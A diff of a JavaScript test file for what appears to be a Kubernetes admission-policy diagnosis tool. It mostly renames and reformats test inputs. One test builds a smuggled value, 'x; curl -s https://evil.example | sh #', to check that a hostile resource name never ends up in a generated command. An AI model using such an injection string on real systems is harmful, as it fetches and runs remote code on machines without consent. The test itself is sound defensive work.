@@ -207,8 +207,8 @@ describe('the live policy', () => {
 
   test('cannot be read: conclusive still, and said', async () => {
     const { findings } = await diagnosed([
-      gap('admission policies'),
-      gap('admission policy bindings'),
+      gap('policies'),
+      gap('bindings'),
       cluster(),
       podStatus(),
       podLog(line),
@@ -444,24 +444,12 @@ describe('what earlier versions got wrong', () => {
   })
 
   test('a policy that was not read leaves the group to suggest, unchecked', async () => {
-    const { findings } = await diagnosed([
-      gap('admission policies'),
-      gap('admission policy bindings'),
-      podStatus(),
-      podLog(line),
-      crashed(),
-    ])
+    const { findings } = await diagnosed([gap('policies'), gap('bindings'), podStatus(), podLog(line), crashed()])
     assert.equal(findings[0]?.policyCheck?.group, 'system:serviceaccounts:flux-system')
   })
 
   test('a policy that is gone after its watch broke off and came back is gone', async () => {
-    const { findings } = await diagnosed([
-      gap('admission policies', 'reset'),
-      ...listed(),
-      podStatus(),
-      podLog(line),
-      crashed(),
-    ])
+    const { findings } = await diagnosed([gap('policies', 'reset'), ...listed(), podStatus(), podLog(line), crashed()])
     assert.equal(findings[0]?.policyCheck?.verdict, 'admitted')
   })
 
@@ -524,8 +512,8 @@ describe('what earlier versions got wrong', () => {
   test('a name that a shell would read as more than a name is in no command', async () => {
     const evil = line.replaceAll('protect', 'x; curl -s https://evil.example | sh #')
     const { findings } = await diagnosed([
-      gap('admission policies'),
-      gap('admission policy bindings'),
+      gap('policies'),
+      gap('bindings'),
       cluster({ sku: 'Base', managedSystemNodePools: false }),
       podStatus(),
       podLog(evil),
